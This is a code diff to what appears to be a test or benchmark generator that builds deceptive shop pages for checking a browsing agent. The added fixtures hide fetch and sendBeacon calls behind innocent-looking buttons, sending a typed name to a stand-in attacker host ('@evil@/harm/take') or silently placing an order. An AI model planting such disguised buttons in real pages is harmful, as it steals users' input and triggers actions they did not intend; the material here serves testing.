@@ -75,15 +75,21 @@ def _scripts() -> list[Attack]:
         for name, thing in things.items()
     ]
     lies = {
-        "Read more": f'<button onclick="{pay}">Read more</button>',
-        "a click anywhere": f'<script>addEventListener("click", () => {pay})</script><button>Show all</button>',
-        "a pointer that comes near": f'<button onpointermove="{pay}">Show all</button>',
-        "a beacon": "<button onclick=\"navigator.sendBeacon('@own@/harm/beacon', 'x')\">Show all</button>",
+        "Read more": '<button onclick="%s">Read more</button>',
+        "a click anywhere": '<script>addEventListener("click", () => %s)</script><button>Show all</button>',
+        "a pointer that comes near": '<button onpointermove="%s">Show all</button>',
+        "a beacon": '<button onclick="%s">Show all</button>',
     }
-    return found + [
-        Attack(f"lie: {name}", "lying script", f"<h1>Shop</h1>{thing}", "click ‹#button›")
-        for name, thing in lies.items()
-    ]
+    # The same lies: to an address that says what they do, to another site with what was typed, and saying nothing.
+    where = {"": "@own@/harm/orders/place", " elsewhere": "@evil@/harm/take", " without a word": "@own@/harm/x"}
+    for name, thing in lies.items():
+        for how, address in where.items():
+            form = "navigator.sendBeacon('%s', n.value)" if name == "a beacon" else "fetch('%s', {method: 'POST', body: n.value})"
+            page = f"<h1>Shop</h1><label>Your name <input id=n></label>{thing % (form % address)}"
+            say = "type ‹Augusta› ‹Your name›; click ‹#button›"
+            made = Attack(f"lie: {name}{how}", "lying script", page, say, own_lie=how == " without a word")
+            found.append(made)
+    return found
 
 
 def _click_words(thing: str) -> str:
